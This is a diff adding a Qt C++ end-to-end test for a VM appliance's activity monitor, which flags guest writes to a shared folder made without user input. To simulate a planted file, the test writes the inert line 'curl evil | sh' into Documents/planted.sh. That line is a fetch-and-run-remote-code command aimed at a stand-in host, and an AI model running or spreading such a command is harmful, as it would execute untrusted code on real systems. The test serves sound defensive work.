@@ -1,0 +1,167 @@
+// The contract monitor on the real terminal appliance (TCG, embedded libvirt with its own root,
+// data and store folders): the guest writes into a mounted store folder with no input forwarded
+// to it, and a breach with the right evidence is raised within two seconds; after keyboard input
+// forwarded through SPICE, the same kind of write is expected and raises nothing.
+#include "appliancecatalog.h"
+#include "appliancemonitor.h"
+#include "appliancevm.h"
+#include "contractparser.h"
+#include "guestdriver.h"
+#include "libvirtconnection.h"
+#include "spiceconnection.h"
+#include "tesserapaths.h"
+
+#include <QDir>
+#include <QElapsedTimer>
+#include <QFile>
+#include <QSignalSpy>
+#include <QTemporaryDir>
+#include <QTest>
+
+#include <unistd.h>
+
+namespace {
+
+constexpr int BootTimeoutMs = 240 * 1000; // TCG on a loaded 2-core machine
+constexpr int StateTimeoutMs = 90 * 1000;
+constexpr int BreachDeadlineMs = 2000;    // the bound from write to breach
+constexpr quint32 ShiftScancode = 0x2a;   // harmless: a bare Shift press types nothing
+
+QString testUri()
+{
+    const QString configured = qEnvironmentVariable("TESSERA_E2E_MONITOR_URI");
+    if (!configured.isEmpty())
+        return configured;
+    return geteuid() == 0 ? QStringLiteral("qemu:///embed?root=") + TesseraPaths::cacheDir() + QStringLiteral("/e2e-monitor-libvirt")
+                          : QStringLiteral("qemu:///session");
+}
+
+SystemContract monitoredContract()
+{
+    const QByteArray ovf =
+        "<Envelope xmlns=\"http://schemas.dmtf.org/ovf/envelope/1\" xmlns:ovf=\"http://schemas.dmtf.org/ovf/envelope/1\""
+        " xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xmlns:ns=\"urn:tessera:contract:1\">"
+        "<VirtualSystem ovf:id=\"terminal\"><Info>monitored terminal</Info>"
+        "<ns:ContractSection xsi:type=\"ovf:ResourceContract_Type\"><Info>r</Info><CPUs>2</CPUs>"
+        "<Memory unit=\"MiB\">1024</Memory></ns:ContractSection>"
+        "<ns:ContractSection xsi:type=\"ovf:MountContract_Type\"><Info>m</Info><Mount><Store>Documents</Store>"
+        "<Target>/root/Documents</Target><Access>read-write</Access></Mount></ns:ContractSection>"
+        "<ns:ContractSection xsi:type=\"ovf:ActivityContract_Type\"><Info>a</Info><Expect><Store>Documents</Store>"
+        "<Access>write</Access><WithinSecondsOfInput>20</WithinSecondsOfInput></Expect></ns:ContractSection>"
+        "</VirtualSystem></Envelope>";
+    const ContractParseResult result = ContractParser::parse(ovf, QStringLiteral("monitor-e2e.ovf"));
+    if (!result.ok)
+        qFatal("test contract rejected: %s", qPrintable(result.error));
+    return result.systems.first();
+}
+
+} // namespace
+
+class TestMonitorEndToEnd : public QObject
+{
+    Q_OBJECT
+    QTemporaryDir m_data;
+    QTemporaryDir m_runtime;
+    QString m_store;
+    LibvirtConnection *m_connection = nullptr;
+    ApplianceImage m_image;
+
+    bool waitForVmState(ApplianceVm &vm, ApplianceVm::State state, int timeoutMs)
+    {
+        QSignalSpy changed(&vm, &ApplianceVm::stateChanged);
+        QDeadlineTimer deadline(timeoutMs);
+        while (vm.state() != state && vm.state() != ApplianceVm::Failed && !deadline.hasExpired())
+            changed.wait(int(qMax<qint64>(1, deadline.remainingTime())));
+        if (vm.state() != state)
+            qWarning() << "VM state" << vm.state() << "wanted" << state << vm.lastError().toString();
+        return vm.state() == state;
+    }
+
+private Q_SLOTS:
+    void initTestCase()
+    {
+        QVERIFY(m_data.isValid() && m_runtime.isValid());
+        m_image = ApplianceCatalog::find(TesseraPaths::applianceImagesDir(), QStringLiteral("terminal"));
+        QVERIFY2(m_image.isComplete(), "the terminal appliance is not built: run scripts/setup");
+        qputenv("TESSERA_DATA_DIR", m_data.path().toUtf8());
+        qputenv("XDG_RUNTIME_DIR", m_runtime.path().toUtf8());
+        m_store = m_data.filePath(QStringLiteral("store"));
+        qputenv("TESSERA_STORE_DIR", m_store.toUtf8());
+        m_connection = new LibvirtConnection(testUri(), this);
+        QSignalSpy opened(m_connection, &LibvirtConnection::opened);
+        QSignalSpy failed(m_connection, &LibvirtConnection::openFailed);
+        m_connection->open();
+        QTRY_VERIFY_WITH_TIMEOUT(!opened.isEmpty() || !failed.isEmpty(), 180000);
+        QVERIFY2(failed.isEmpty(), qPrintable(failed.value(0).value(0).value<VmError>().toString()));
+    }
+
+    void writesWithoutInputAreReportedWithEvidence()
+    {
+        ApplianceVm vm(m_connection, m_image, Accelerator::choose(qEnvironmentVariable("TESSERA_ACCEL")));
+        const SystemContract contract = monitoredContract();
+        vm.setContract(contract, false);
+        QCOMPARE(vm.spec().sharedFolders.size(), 1);
+        vm.refresh();
+        QTRY_VERIFY_WITH_TIMEOUT(vm.state() != ApplianceVm::Unknown, 10000);
+        if (vm.state() != ApplianceVm::Off) {
+            vm.powerOff();
+            QVERIFY(waitForVmState(vm, ApplianceVm::Off, StateTimeoutMs));
+        }
+        SpiceConnection spice;
+        GuestDriver driver(&spice);
+        vm.start();
+        QVERIFY(waitForVmState(vm, ApplianceVm::Running, StateTimeoutMs));
+        spice.connectToUnixSocket(vm.spec().spiceSocket);
+        QVERIFY2(driver.waitForSessionUp(BootTimeoutMs), qPrintable(driver.lastFailure()));
+        QVERIFY2(driver.mountSharedFolders(vm.spec().sharedFolders), qPrintable(driver.lastFailure()));
+
+        // As the shell does: input forwarded over SPICE is what the monitor correlates with.
+        ApplianceMonitor monitor(m_image.name, contract, m_store);
+        connect(&spice, &SpiceConnection::inputSent, &monitor, &ApplianceMonitor::noteInput);
+        QVERIFY(monitor.start());
+        QSignalSpy breaches(&monitor, &ApplianceMonitor::breach);
+        QSignalSpy seen(&monitor, &ApplianceMonitor::accessSeen);
+
+        // 1. Nobody typed anything: the guest writes into Documents on its own.
+        GuestDriver::ExecResult planted = driver.exec({QStringLiteral("/bin/sh"), QStringLiteral("-c"),
+                                                       QStringLiteral("echo 'curl evil | sh' > /root/Documents/planted.sh")});
+        QElapsedTimer sinceWrite;
+        sinceWrite.start();
+        QVERIFY2(planted.finished && planted.status == 0, planted.output.constData());
+        QVERIFY(QFile::exists(m_store + QStringLiteral("/Documents/planted.sh")));
+        QTRY_VERIFY_WITH_TIMEOUT(!breaches.isEmpty(), BreachDeadlineMs);
+        qInfo("write in the guest to breach raised: %lld ms", sinceWrite.elapsed());
+        const auto event = breaches.first().first().value<BreachEvent>();
+        QCOMPARE(event.kind, BreachEvent::Kind::WriteWithoutInput);
+        QCOMPARE(event.element(), ContractElement::Activity);
+        QCOMPARE(event.appliance, QStringLiteral("terminal"));
+        QCOMPARE(event.subject, QStringLiteral("Documents"));
+        QCOMPARE(event.bound, 20.0);
+        QCOMPARE(event.observed, -1.0); // no input ever forwarded
+        QVERIFY2(event.evidence.contains(QStringLiteral("Documents/planted.sh")), qPrintable(event.evidence.join(u',')));
+
+        // 2. The person presses a key in the appliance, then it saves a file: as the contract expects.
+        QVERIFY(spice.isInputReady());
+        spice.sendKey(ShiftScancode, true);
+        spice.sendKey(ShiftScancode, false);
+        QVERIFY(monitor.lastInput().isValid());
+        seen.clear();
+        breaches.clear();
+        const GuestDriver::ExecResult saved = driver.exec({QStringLiteral("/bin/sh"), QStringLiteral("-c"),
+                                                           QStringLiteral("echo 'dear diary' > /root/Documents/typed.txt")});
+        QVERIFY2(saved.finished && saved.status == 0, saved.output.constData());
+        QTRY_VERIFY_WITH_TIMEOUT(std::any_of(seen.cbegin(), seen.cend(), [](const QList<QVariant> &access) {
+            return access.first().toString() == QLatin1String("Documents/typed.txt"); }), BreachDeadlineMs);
+        for (const QList<QVariant> &access : std::as_const(seen))
+            QVERIFY2(access.at(2).toBool(), qPrintable(access.first().toString())); // within the window
+        monitor.stop(); // raises anything still gathered
+        QCOMPARE(breaches.count(), 0);
+
+        vm.powerOff();
+        QVERIFY(waitForVmState(vm, ApplianceVm::Off, StateTimeoutMs));
+        spice.disconnectFromGuest();
+    }
+};
+
+QTEST_MAIN(TestMonitorEndToEnd)
+#include "tst_monitor_e2e.moc"
